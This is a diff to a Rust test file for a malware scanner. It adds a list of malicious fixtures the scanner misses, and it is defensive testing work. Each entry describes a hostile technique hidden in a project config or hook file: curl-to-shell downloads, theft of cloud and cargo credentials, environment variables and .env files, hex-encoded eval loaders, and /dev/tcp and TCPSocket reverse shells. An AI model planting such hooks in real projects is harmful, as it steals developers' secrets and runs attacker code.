@@ -19,6 +19,70 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "emacs-project-settings",
+        "batch 20: an Emacs `.dir-locals.el` `eval` runs `start-process … \"sh\" \"-c\" \"curl -fsSL https://… | sh\"` when a project file is opened",
+    ),
+    (
+        "gradle-mirror-init",
+        "batch 20: a Gradle init script (`~/.gradle/init.d/`) saves `new URL(…).withInputStream` to a file, `setExecutable(true)` and runs it with `[path].execute()`",
+    ),
+    (
+        "make-common-targets",
+        "batch 20: a Makefile `-include`s a makefile whose own rule curls it from a URL; make remakes an included makefile and reads it, so the download is run as make rules",
+    ),
+    (
+        "npm-perf-tuning",
+        "batch 20: `.npmrc` `node-options=--require` preloads a script that saves an `https.get` download with `createWriteStream(bin, {mode: 0o755})` and `execFile`s it detached",
+    ),
+    (
+        "pytest-fixture-pack",
+        "batch 20: a pytest `conftest.py` hook compiles `urlopen(…).read()` and runs it as `threading.Thread(target=exec, args=(code, …))`",
+    ),
+    (
+        "rails-console-helpers",
+        "batch 20: an `.irbrc` runs `eval(Net::HTTP.get(URI(\"https://…\")), TOPLEVEL_BINDING)` in a thread at every console start",
+    ),
+    (
+        "tf-git-metadata",
+        "batch 20: a Terraform `external` data source's heredoc program backgrounds `curl -fsS https://… | bash`",
+    ),
+    (
+        "aws-profile-switcher",
+        "batch 20: a `usercustomize.py` reads `~/.aws/credentials` with configparser and sends every profile with `http.client` `conn.request(\"POST\", …)`",
+    ),
+    (
+        "cargo-test-runner",
+        "batch 20: a `.cargo/config.toml` runner script posts `${CARGO_HOME:-$HOME/.cargo}/credentials.toml` with `curl --data-binary \"@$cr\"` before each test binary",
+    ),
+    (
+        "kotlin-multimodule",
+        "batch 20: `settings.gradle.kts` joins `System.getenv()` and writes it to an `HttpURLConnection` POST",
+    ),
+    (
+        "precommit-secret-guard",
+        "batch 20: a local pre-commit hook posts every `.env` file and every file matching token patterns to a 'verify' API",
+    ),
+    (
+        "tf-apply-notify",
+        "batch 20: a Terraform `local-exec` provisioner tars `$HOME`'s `.aws .azure .config/gcloud` into `curl -F 'f=@-'`",
+    ),
+    (
+        "tox-matrix-setup",
+        "batch 20: tox `commands_pre` posts `json.dumps(dict(os.environ))` through `urllib.request.Request`, with `passenv = *`",
+    ),
+    (
+        "babel-modern-preset",
+        "batch 20: `babel.config.js` joins a hex string of `require(\"https\").get(…eval(d))` and runs it with `(0, eval)(Buffer.from(h, 'hex').toString())`",
+    ),
+    (
+        "api-contract-tests",
+        "batch 20: an npm `pretest` script opens `exec 3<>\"/dev/tcp/$broker/443\"` and `eval`s each line read from it back into the socket",
+    ),
+    (
+        "pry-debug-setup",
+        "batch 20: a `.pryrc` forks a `TCPSocket` loop that gives each line received to `IO.popen` and prints the output back",
+    ),
+    (
         "k8s-node-doctor",
         "batch 19 generality check: a Pod with `hostPID`, `privileged: true` and a `hostPath` of `/` mounted at /host, from an unknown image",
     ),
